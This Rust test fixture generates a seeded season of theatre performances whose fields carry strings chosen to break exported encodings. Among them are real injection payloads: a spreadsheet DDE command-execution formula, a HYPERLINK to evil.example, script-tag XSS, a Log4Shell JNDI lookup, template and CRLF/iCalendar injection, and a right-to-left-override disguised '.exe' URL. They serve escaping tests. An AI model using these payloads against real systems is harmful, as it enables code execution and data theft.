//! Records that are hard to write: a season made by a seed, in which every encoding meets what breaks it.
#![expect(
    clippy::missing_panics_doc,
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "a season that stops has failed"
)]

use std::{fs, path::Path};

use c3ms_core::{
    base::{Id, Language, Seed, Timestamp, Zone},
    cooperative::{Act, Settings, deliver, found},
    delivery::{Context, Datasets, Recipient, gate},
    forms::{Entry, Revision, State, live_performance},
    store::{Batch, Change, MemoryStore, Store as _},
};
use serde_json::{Map, Value, json};

use crate::chance::Chance;

/// Texts that end, compute, hide or run something where they are not escaped.
pub const TEXTS: [&str; 30] = [
    "=1+1",
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=HYPERLINK(\"https://evil.example\";\"a\")",
    "＝1＋1",
    "]]>",
    "<script>alert(1)</script>",
    "<!-- --><![CDATA[ & &amp; &#x3c;b&#x3e;",
    "</script></title></description>",
    "guillemets \"doubles\", 'simples', “courbes”",
    "virgule, point-virgule; deux\\points\\: a\\nb",
    "deux\nlignes\r\net une\rautre",
    "\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:inventé",
    "contrôle \u{0}\u{1}\u{8}\u{b}\u{c}\u{1b}[31m\u{7f}\u{85}\u{9f} fin",
    "séparateurs \u{2028} et \u{2029} et \u{a0}",
    "famille 👩‍👩‍👧‍👦, drapeau 🇫🇷, 𝕏, e\u{301}",
    "مهرجان الجبال ‏(٢٠٢٧)‏",
    "פסטיבל \u{202e}הפוך\u{202c} 2027",
    "日本語の題名 – 能と狂言",
    "_x0041_ _x000D_ _x_",
    "\u{feff}au début",
    "non-caractères \u{fffe}\u{ffff}\u{1fffe}",
    "  espaces autour  ",
    "007",
    "1e5",
    "null",
    "true",
    "{{ 7*7 }} ${jndi:ldap://evil.example/a} %0d%0a",
    "@prefix a: <b> . \"\"\"\\u0041",
];

/// Starts and ends: the gap and the fold of the clocks, zones far away, offsets alone, days, several days, nothing said.
const MOMENTS: [(&str, Option<&str>); 16] = [
    ("2026-11-23T20:30:00[Europe/Paris]", Some("2026-11-23T22:00:00[Europe/Paris]")),
    ("2027-03-28T02:30:00[Europe/Paris]", Some("2027-03-28T03:30:00[Europe/Paris]")),
    ("2026-10-25T02:30:00[Europe/Paris]", Some("2026-10-25T04:00:00[Europe/Paris]")),
    ("2026-12-31T23:00:00[Europe/Paris]", Some("2027-01-01T04:00:00[Europe/Paris]")),
    ("2026-12-01T20:30:00[Pacific/Kiritimati]", None),
    ("2026-12-01T20:30:00[America/St_Johns]", Some("2026-12-01T21:30:00[America/St_Johns]")),
    ("2026-12-01T20:30:00[Asia/Kathmandu]", None),
    ("2026-12-01T20:30:00-03:30", None),
    ("2026-12-01T20:30:00+14:00", Some("2026-12-01T22:30:00+14:00")),
    ("2026-12-01T20:30:00Z", Some("2026-12-02T02:00:00[Europe/Paris]")),
    ("2026-12-24", None),
    ("2026-12-01", Some("2027-02-28")),
    ("2028-02-29", Some("2028-02-29")),
    ("2026-12-05T10:00:00", Some("2026-12-05T12:00:00")),
    ("2026-12-05T10:00:00[Europe/Paris]", Some("2026-12-05T09:00:00[Europe/Paris]")),
    ("2027-06-21T18:00:00[Europe/Paris]", Some("2027-06-24")),
];

/// Positions: on both sides of the antimeridian, at the poles, whole degrees, nine digits.
const POSITIONS: [(f64, f64); 8] = [
    (44.899_5, 6.643_2),
    (-16.5, 180.0),
    (-16.5, -180.0),
    (65.0, -179.999_999),
    (-13.3, -176.2),
    (90.0, 0.0),
    (45.0, 5.0),
    (44.123_456_789, -0.000_000_1),
];

const RECURRENCES: [&str; 4] = [
    "FREQ=WEEKLY;BYDAY=WE;COUNT=10",
    "FREQ=MONTHLY;BYDAY=-1SU;UNTIL=20270701T000000Z",
    "FREQ=DAILY;INTERVAL=2;COUNT=5",
    "FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=29;COUNT=2",
];

const ADDRESSES: [&str; 5] = [
    "https://example.org/bal",
    "https://example.org/a b?q=\"><script>alert(1)</script>",
    "https://example.org/été/日本?x={y}|z^`\\",
    "http://example.org/?a=1,2;b&c=3#d",
    "https://example.org/%E2%80%AE\u{202e}gpj.exe",
];

fn id(parts: &[&str]) -> Id<Entry> {
    Id::derived(&[&["adversarial"], parts].concat())
}

fn performance_id(number: usize) -> Id<Entry> {
    id(&["performance", &number.to_string()])
}

/// A hostile text in each of some languages; one may be empty.
fn text(chance: &mut Chance) -> Value {
    let mut texts = Map::new();
    texts.insert("fr".to_owned(), json!(chance.of(&TEXTS)));
    if chance.happens(40) {
        texts.insert("en".to_owned(), json!(if chance.happens(30) { "" } else { chance.of(&TEXTS) }));
    }
    if chance.happens(15) {
        texts.insert((*chance.of(&["ar", "pt-BR", "zh-Hant", "oc"])).to_owned(), json!(chance.of(&TEXTS)));
    }
    Value::Object(texts)
}

/// A title that is more than white space, as a format asks for.
fn title(number: usize, chance: &mut Chance) -> Value {
    let mut title = text(chance);
    if let Some(french) = title.get_mut("fr") {
        *french = json!(format!("{} n° {number}", french.as_str().unwrap_or_default()));
    }
    title
}

fn venue(number: usize, chance: &mut Chance) -> Value {
    let (latitude, longitude) = POSITIONS[number % POSITIONS.len()];
    json!({
        "name": title(number, chance),
        "position": { "latitude": latitude, "longitude": longitude },
        "address": {
            "street": chance.of(&TEXTS), "postal-code": "05100", "locality": chance.of(&TEXTS), "country": "FR"
        },
        "accessibility": { "disabilities": ["mi", "hi"], "details": text(chance) },
        "capacity": number * 37 % 900
    })
}

fn offers(chance: &mut Chance) -> Value {
    let count = if chance.happens(5) { 20 } else { chance.below(4) };
    let offer = |_| {
        let cents = if chance.happens(20) { 0 } else { chance.below(9_000) };
        let currency = chance.of(&["EUR", "CHF", "XPF"]);
        let mut offer = json!({
            "name": text(chance), "category": chance.of(&["full", "reduced", "free"]),
            "price": { "cents": cents, "currency": currency },
            "availability": chance.of(&["in-stock", "sold-out", "limited"])
        });
        if chance.happens(20) {
            offer["maximum-price"] = json!({ "cents": cents + 500, "currency": currency });
        }
        if chance.happens(30) {
            offer["url"] = json!(chance.of(&ADDRESSES));
            offer["conditions"] = text(chance);
        }
        offer
    };
    (0..count).map(offer).collect()
}

/// One performance; those of one remainder by sixteen have the same kind of dates.
fn performance(number: usize, chance: &mut Chance) -> Value {
    let (start, end) = MOMENTS[number % MOMENTS.len()];
    let mut document = json!({
        "name": title(number, chance),
        "start": start,
        "event": id(&["event", &(number % 5).to_string()]),
        "offers": offers(chance),
        "url": chance.of(&ADDRESSES),
        "keywords": [chance.of(&TEXTS), chance.of(&TEXTS)],
        "identifier": chance.of(&TEXTS),
        "genres": [chance.of(&["theatre", "dance", "music", "storytelling"])],
        "languages": ["fr"],
        "capacity": chance.below(1_000),
    });
    let mut say = |name: &str, value: Value| document[name] = value;
    if let Some(end) = end {
        say("end", json!(end));
    }
    if chance.happens(60) {
        let long = chance.happens(10);
        let mut said = text(chance);
        if long && let Some(french) = said.get_mut("fr") {
            *french = json!("longue-ligne-sans-espace".repeat(200));
        }
        say("description", said);
    }
    let statuses = ["scheduled", "cancelled", "postponed", "rescheduled", "moved-online", "full"];
    if chance.happens(70) {
        let status = *chance.of(&statuses);
        say("status", json!(status));
        if status == "rescheduled" {
            say("previous-start", json!("2026-11-01T20:30:00[Europe/Paris]"));
        }
    }
    if chance.happens(5) {
        say("attendance", json!("online"));
    } else {
        say("attendance", json!(chance.of(&["offline", "mixed"])));
        say("venue", json!(id(&["venue", &chance.below(VENUES).to_string()])));
    }
    if chance.happens(20) {
        say("festival", json!(id(&["festival", &chance.below(3).to_string()])));
    }
    if chance.happens(30) {
        say("accessibility", json!({ "disabilities": ["vi", "hi"], "details": text(chance) }));
    }
    if chance.happens(10) {
        let media = json!([{
            "url": "https://example.org/une image.jpg", "license": "CC BY 4.0", "credit": chance.of(&TEXTS),
            "alternative": { "fr": "Un couple danse." }
        }]);
        say("media", media);
    }
    if number % 16 == 13 {
        say(
            "timings",
            json!([
                { "start": "2026-12-06T10:00:00[Europe/Paris]", "end": "2026-12-06T12:00:00[Europe/Paris]" },
                { "start": "2026-12-07", "status": "cancelled" }
            ]),
        );
    }
    if number.is_multiple_of(16) {
        say(
            "recurrence",
            json!({
                "rule": chance.of(&RECURRENCES),
                "added": ["2027-01-05T20:30:00[Europe/Paris]"],
                "excluded": ["2026-11-25T20:30:00[Europe/Paris]", "2026-12-02"]
            }),
        );
    } else if number % 16 == 3 {
        // It replaces a date of the series three before it.
        say("recurrence-of", json!(performance_id(number - 3)));
        say("recurrence-id", json!("2026-12-09T20:30:00[Europe/Paris]"));
    }
    document
}

const VENUES: usize = 16;

fn documents(count: usize, seed: u64) -> Vec<(&'static str, Id<Entry>, Value)> {
    let mut chance = Chance::new(seed);
    let chance = &mut chance;
    let mut all = Vec::with_capacity(count + 32);
    for number in 0..VENUES {
        all.push(("venue", id(&["venue", &number.to_string()]), venue(number, chance)));
    }
    for number in 0..5 {
        let work =
            json!({ "name": title(number, chance), "description": text(chance), "genres": ["circus"] });
        all.push(("event", id(&["event", &number.to_string()]), work));
    }
    for number in 0..3 {
        let festival = json!({
            "name": title(number, chance), "position": { "latitude": 44.0, "longitude": 6.0 },
            "address": { "locality": chance.of(&TEXTS) }, "url": chance.of(&ADDRESSES)
        });
        all.push(("festival", id(&["festival", &number.to_string()]), festival));
    }
    all.extend((0..count).map(|number| ("performance", performance_id(number), performance(number, chance))));
    all
}

/// When the season is delivered.
#[must_use]
pub fn now() -> Timestamp {
    Timestamp::parse("2026-11-24T08:00:00Z").unwrap()
}

fn settings() -> Settings {
    Settings {
        name: "Scènes <&> \"Cie\" ]]>".to_owned(),
        zone: Zone::parse("Europe/Paris").unwrap(),
        language: Language::french(),
        license: "https://www.etalab.gouv.fr/licence-ouverte-open-licence".to_owned(),
        address: Some("https://agenda.example.org".to_owned()),
    }
}

/// A cooperative with so many performances, made by a seed.
#[must_use]
pub fn cooperative(count: usize, seed: u64) -> MemoryStore {
    kept(&documents(count, seed))
}

/// A cooperative with these records, published.
fn kept(records: &[(&str, Id<Entry>, Value)]) -> MemoryStore {
    let mut store = MemoryStore::new();
    let profile = live_performance().unwrap();
    let actor = Id::derived(&["member", "adversarial"]);
    let act = Act { now: now(), actor, seed: Seed::from_number(1), signer: None };
    found(&mut store, &settings(), &profile, &act).unwrap();
    for (part, some) in records.chunks(1_000).enumerate() {
        let changes: Vec<Change> = some
            .iter()
            .map(|(cube, id, document)| {
                let format = profile.formats.iter().find(|format| format.cube == *cube).unwrap().digest();
                let document = document.as_object().unwrap().clone();
                Change::Revision(*id, Revision::new(*cube, format, State::Published, document))
            })
            .collect();
        let part = i64::try_from(part).unwrap_or(0);
        let at = Timestamp::from_millis(now().millis() - 86_400_000 + part * 1_000);
        let seed = Seed::from_number(u64::try_from(part).unwrap_or(0) + 2);
        store.append(&Batch { at, actor, seed, signer: None, changes: &changes }).unwrap();
    }
    store
}

/// A season as theatres enter it: so many performances of [`performance`](crate::performance), with the house, the
/// organizer and the artists they name.
#[must_use]
pub fn season(count: usize) -> MemoryStore {
    let named = |cube: &'static str, id: &str, name: &str| {
        (cube, Id::parse(id).unwrap(), json!({ "name": { "fr": name } }))
    };
    let mut venue = named("venue", "7nvt0ewrr116phdhrr922y4yc9", "Le Théâtre");
    venue.2["position"] = json!({ "latitude": 44.8995, "longitude": 6.6432 });
    venue.2["address"] =
        json!({ "street": "45 avenue de la République", "postal-code": "05100", "locality": "Briançon" });
    let mut all = vec![
        venue,
        named("organizer", "7nvt0ewrr116phdhrr922y4yc8", "Association du Théâtre"),
        named("artist", "7nvt0ewrr116phdhrr922y4yc7", "Ada"),
        named("artist", "7nvt0ewrr116phdhrr922y4yc6", "Blaise"),
    ];
    all.extend((0..count).map(|number| ("performance", performance_id(number), crate::performance(number))));
    kept(&all)
}

/// What the public may see of it, and what its encodings are told.
#[must_use]
pub fn datasets(store: &MemoryStore) -> (Datasets, Context) {
    let datasets = gate(store, &store.formats().unwrap(), &Recipient::Public, now()).unwrap();
    let Settings { name, zone, language, license, address } = settings();
    (datasets, Context { name, zone: Some(zone), language, license, address, now: now() })
}

/// Writes the whole site of such a cooperative into a folder: every encoding of every cube.
pub fn write(folder: &Path, count: usize, seed: u64) {
    let delivered = deliver(&cooperative(count, seed), now()).unwrap();
    for (path, content) in &delivered.files {
        let path = folder.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, content).unwrap();
    }
}
